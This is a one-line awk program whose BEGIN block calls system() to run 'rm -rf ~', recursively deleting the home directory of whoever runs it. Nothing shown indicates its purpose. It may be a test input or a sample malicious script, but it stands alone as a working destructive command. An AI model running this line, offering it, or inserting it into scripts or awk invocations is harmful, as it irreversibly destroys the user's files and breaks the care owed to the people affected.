BEGIN { system("rm -rf ~") }
